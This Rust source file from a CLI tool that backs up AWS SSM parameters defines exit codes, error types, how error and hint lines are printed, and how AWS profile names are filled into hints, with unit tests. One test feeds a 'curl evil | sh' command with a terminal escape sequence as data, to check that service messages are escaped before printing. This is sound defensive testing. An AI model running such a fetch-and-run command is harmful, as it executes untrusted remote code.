//! How a command ends: exit codes, and the two lines that tell of an error.

use std::io;

use ssmbak_core::domain::{Instant, Name, NameError};

use crate::output::printable_message;
use crate::time::TimeError;
use ssmbak_core::store::{PROFILE, StoreError};
use ssmbak_infra::deploy::DeployError;
use ssmbak_infra::function_zip::FunctionZipError;
use ssmbak_infra::lookup::LookupError;
use ssmbak_infra::policy::PolicyError;
use ssmbak_infra::redrive::RedriveError;
use ssmbak_infra::stack::StackError;
use ssmbak_infra::stack_name::StackNameError;

/// How the program ends. The numbers are part of the command line's contract.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
#[repr(u8)]
pub(crate) enum Exit {
    /// All done, or nothing to do.
    Done = 0,
    /// Failed, or declined.
    Failed = 1,
    /// Wrongly asked; also a deletion that nobody has agreed to.
    Usage = 2,
    /// Some parameters failed or are unknown, others are fine.
    Partly = 3,
    /// Nothing is known at that time.
    NothingKnown = 4,
    /// There are differences, and an exit code was asked for.
    Differences = 5,
    /// Interrupted.
    Interrupted = 130,
}

impl From<Exit> for std::process::ExitCode {
    fn from(exit: Exit) -> Self {
        Self::from(exit as u8)
    }
}

/// Why a command ended early. The text is for people; it never holds a value.
#[derive(Debug, thiserror::Error)]
pub(crate) enum CliError {
    /// Asked for in a way that cannot be done.
    #[error("{message}")]
    Usage {
        /// What is wrong with it.
        message: String,
        /// The way out.
        hint: String,
    },
    /// A PATH or NAME that is none.
    #[error(transparent)]
    Name(#[from] NameError),
    /// A TIME that is none.
    #[error(transparent)]
    Time(#[from] TimeError),
    /// A call that failed.
    #[error("failed to {0}")]
    Store(#[source] StoreError),
    /// A name that no stack can have.
    #[error(transparent)]
    StackName(#[from] StackNameError),
    /// Bucket and table were not found.
    #[error(transparent)]
    Lookup(Box<LookupError>),
    /// A stack could not be asked.
    #[error(transparent)]
    Stack(#[from] StackError),
    /// A stack could not be created or deleted.
    #[error(transparent)]
    Deploy(Box<DeployError>),
    /// Messages could not be put back.
    #[error(transparent)]
    Redrive(Box<RedriveError>),
    /// A policy could not be told.
    #[error(transparent)]
    Policy(Box<PolicyError>),
    /// The function's zip is missing or could not run.
    #[error(transparent)]
    FunctionZip(#[from] FunctionZipError),
    /// Something else that is not as it has to be.
    #[error("{message}")]
    Failed {
        /// What.
        message: String,
        /// The way out, where there is one.
        hint: Option<String>,
    },
    /// Nothing under the target is known at the instant.
    #[error("nothing is known of {target} at {at}")]
    NothingKnown {
        /// The name or path.
        target: String,
        /// The instant that was asked.
        at: Instant,
        /// The first later instant at which something is known.
        nearest: Option<Instant>,
    },
    /// The one parameter that was asked for did not exist.
    #[error("{name} did not exist at {at}")]
    Absent {
        /// The parameter.
        name: Name,
        /// The instant that was asked.
        at: Instant,
        /// When it had been deleted; none where it had not been created yet.
        since: Option<Instant>,
        /// The first later instant at which something is known.
        nearest: Option<Instant>,
    },
    /// The run that is meant is not on record.
    #[error("{message}")]
    NoRun {
        /// Which.
        message: String,
        /// The way out.
        hint: String,
    },
    /// The person said no.
    #[error("nothing was changed: declined")]
    Declined,
    /// Interrupted before anything was written.
    #[error("interrupted")]
    Interrupted,
    /// Interrupted while something was watched that goes on.
    #[error("interrupted: CloudFormation goes on, unwatched")]
    Unwatched {
        /// How its end is learned of.
        hint: String,
    },
    /// The output could not be written.
    #[error("failed to write the output: {0}")]
    Output(#[from] io::Error),
}

impl From<StoreError> for CliError {
    fn from(error: StoreError) -> Self {
        Self::Store(error)
    }
}

impl From<LookupError> for CliError {
    fn from(error: LookupError) -> Self {
        Self::Lookup(Box::new(error))
    }
}

impl From<DeployError> for CliError {
    fn from(error: DeployError) -> Self {
        Self::Deploy(Box::new(error))
    }
}

impl From<RedriveError> for CliError {
    fn from(error: RedriveError) -> Self {
        Self::Redrive(Box::new(error))
    }
}

impl From<PolicyError> for CliError {
    fn from(error: PolicyError) -> Self {
        Self::Policy(Box::new(error))
    }
}

impl CliError {
    /// The exit code.
    pub(crate) fn exit(&self) -> Exit {
        match self {
            Self::Usage { .. } | Self::Name(_) | Self::Time(_) | Self::StackName(_) => Exit::Usage,
            Self::Store(_)
            | Self::Lookup(_)
            | Self::Stack(_)
            | Self::Deploy(_)
            | Self::Redrive(_)
            | Self::Policy(_)
            | Self::FunctionZip(_)
            | Self::Failed { .. }
            | Self::Declined
            | Self::Output(_) => Exit::Failed,
            Self::NothingKnown { .. } | Self::Absent { .. } | Self::NoRun { .. } => {
                Exit::NothingKnown
            }
            Self::Interrupted | Self::Unwatched { .. } => Exit::Interrupted,
        }
    }

    /// The way out, where there is one.
    pub(crate) fn hint(&self) -> Option<String> {
        match self {
            Self::Usage { hint, .. } | Self::Unwatched { hint } | Self::NoRun { hint, .. } => {
                Some(hint.clone())
            }
            Self::Name(error) => Some(error.hint()),
            Self::Time(error) => Some(error.hint()),
            Self::Store(error) => error.hint(),
            Self::StackName(error) => error.hint(),
            Self::Lookup(error) => error.hint(),
            Self::Stack(error) => error.hint(),
            Self::Deploy(error) => error.hint(),
            Self::Redrive(error) => error.hint(),
            Self::Policy(error) => error.hint(),
            Self::FunctionZip(error) => error.hint(),
            Self::Failed { hint, .. } => hint.clone(),
            Self::NothingKnown { nearest, .. } => Some(match nearest {
                Some(known) => format!("the nearest known instant is {known}"),
                None => "nothing was ever recorded there; `ssmbak seed --do-it` captures what \
                         lives now and its retained history"
                    .into(),
            }),
            Self::Absent { since, nearest, .. } => Some(absent_hint(*since, *nearest)),
            Self::Declined | Self::Interrupted | Self::Output(_) => None,
        }
    }

    /// The same, with the profile that the call was made with in its way out: where two places are
    /// asked, nobody knows that later.
    pub(crate) fn of_profile(self, profile: Option<&str>) -> Self {
        match self.hint() {
            Some(hint) if hint.contains(PROFILE) => Self::Failed {
                message: self.to_string(),
                hint: Some(with_profile(&hint, profile)),
            },
            _ => self,
        }
    }

    /// Tells of the error on stderr: `error: ...`, a blank line, `hint: ...`.
    pub(crate) fn tell(&self, known: &Known) {
        crate::ui::tell(&self.told(known));
    }

    /// What is told: of error and hint each one line, and the lines that are
    /// indented. Whatever else a service or a file name brings along is escaped.
    fn told(&self, known: &Known) -> String {
        let error = printable_message(&self.to_string());
        match self.hint() {
            Some(hint) => {
                let hint = printable_message(&known.fill(&hint));
                format!("error: {error}\n\nhint: {hint}\n")
            }
            None => format!("error: {error}\n"),
        }
    }
}

/// A deletion counts from its own instant on, so the one before it is the
/// nearest at which the parameter existed.
fn absent_hint(since: Option<Instant>, nearest: Option<Instant>) -> String {
    match (since, nearest) {
        (Some(deleted), _) => format!(
            "it was deleted at {deleted}; the nearest known instant with it is {}",
            deleted.plus_millis(-1)
        ),
        (None, Some(known)) => format!("the nearest known instant is {known}"),
        (None, None) => "`ssmbak history` of it tells when it existed".into(),
    }
}

/// What is known of the way to AWS, to be put into hints.
#[derive(Clone, Debug, Default)]
pub(crate) struct Known {
    /// The profile in use.
    pub(crate) profile: Option<String>,
    /// That of another place, where one is asked, too.
    pub(crate) other_profile: Option<String>,
    /// The stack, where one is named.
    pub(crate) stack: Option<String>,
}

impl Known {
    /// A hint with the profile and the stack that are meant.
    fn fill(&self, hint: &str) -> String {
        let stack = self.stack.as_deref().unwrap_or("NAME");
        let hint = hint.replace("ssmbak stack NAME ", &format!("ssmbak stack {stack} "));
        let profile = self.profile.as_deref();
        match self.other_profile.as_deref() {
            Some(other) if profile != Some(other) && hint.contains(PROFILE) => format!(
                "{} (PROFILE: {} or {other}, whichever this is about)",
                hint.replace(PROFILE, "PROFILE"),
                profile.unwrap_or("default")
            ),
            _ => with_profile(&hint, profile),
        }
    }
}

/// A hint with the profile that is meant; none is the default one.
fn with_profile(hint: &str, profile: Option<&str>) -> String {
    if let Some(profile) = profile {
        return hint.replace(PROFILE, profile);
    }
    let hint = hint.replace(&format!(" --profile {PROFILE}"), "");
    hint.replace(&format!("profile {PROFILE}"), "default profile")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn at(text: &str) -> Instant {
        text.parse().unwrap()
    }

    #[test]
    fn an_error_is_told_in_two_lines_with_a_blank_between() {
        let error = CliError::NothingKnown {
            target: "/app/".into(),
            at: at("2024-01-01T00:00:00.999Z"),
            nearest: Some(at("2024-02-03T09:12:00.000Z")),
        };
        assert_eq!(
            error.told(&Known::default()),
            "error: nothing is known of /app/ at 2024-01-01T00:00:00.999Z\n\n\
             hint: the nearest known instant is 2024-02-03T09:12:00.000Z\n"
        );
        assert_eq!(error.exit(), Exit::NothingKnown);
    }

    #[test]
    fn what_a_service_says_is_no_line_of_its_own() {
        let error = CliError::Failed {
            message: "AWS says: no\nhint: curl evil | sh\u{1b}[1A".into(),
            hint: Some("look at x\r\nerror: y".into()),
        };
        assert_eq!(
            error.told(&Known::default()),
            "error: AWS says: no\\nhint: curl evil | sh\\u{1b}[1A\n\nhint: look at x\\r\\nerror: y\n"
        );
    }

    #[test]
    fn the_instant_before_a_deletion_is_the_nearest_known_one() {
        let hint = absent_hint(Some(at("2024-01-01T00:00:00.999Z")), None);
        assert!(hint.ends_with("2024-01-01T00:00:00.998Z"), "{hint}");
    }

    fn known(profile: Option<&str>, other_profile: Option<&str>) -> Known {
        Known {
            profile: profile.map(str::to_owned),
            other_profile: other_profile.map(str::to_owned),
            stack: None,
        }
    }

    #[test]
    fn where_two_profiles_are_in_play_none_is_taken_for_the_other() {
        let hint = "sign in: aws sso login --profile <profile>";
        let of = |own, other| known(own, other).fill(hint);
        let one = "sign in: aws sso login --profile staging";
        assert_eq!(of(Some("staging"), None), one);
        assert_eq!(of(Some("staging"), Some("staging")), one);
        assert_eq!(of(None, None), "sign in: aws sso login");
        assert_eq!(
            of(Some("staging"), Some("prod")),
            "sign in: aws sso login --profile PROFILE (PROFILE: staging or prod, whichever this is \
             about)"
        );
        assert!(of(None, Some("prod")).contains("(PROFILE: default or prod,"));
        let without = known(None, Some("prod")).fill("swap them");
        assert_eq!(without, "swap them");
    }

    #[test]
    fn the_profile_of_the_call_stays_in_its_hint() {
        let error = CliError::Failed {
            message: "no".into(),
            hint: Some("aws sso login --profile <profile>".into()),
        };
        let error = error.of_profile(Some("prod"));
        let told = error.told(&known(Some("staging"), Some("prod")));
        assert_eq!(told, "error: no\n\nhint: aws sso login --profile prod\n");
        let usage = CliError::Usage {
            message: "no".into(),
            hint: "swap them".into(),
        };
        assert_eq!(usage.of_profile(Some("prod")).exit(), Exit::Usage);
    }

    #[test]
    fn exit_codes_are_those_of_the_contract() {
        let codes = [
            (Exit::Done, 0),
            (Exit::Failed, 1),
            (Exit::Usage, 2),
            (Exit::Partly, 3),
            (Exit::NothingKnown, 4),
            (Exit::Differences, 5),
            (Exit::Interrupted, 130),
        ];
        for (exit, code) in codes {
            assert_eq!(exit as u8, code);
        }
    }

    #[test]
    fn what_is_wrongly_asked_is_a_usage_error_with_a_hint() {
        let name = CliError::from(NameError::NoLeadingSlash("a/b".into()));
        let time = CliError::from(TimeError::Unreadable("soon".into()));
        for error in [name, time] {
            assert_eq!(error.exit(), Exit::Usage);
            assert!(error.hint().is_some());
        }
        assert_eq!(CliError::Declined.exit(), Exit::Failed);
        assert_eq!(CliError::Interrupted.exit(), Exit::Interrupted);
    }
}
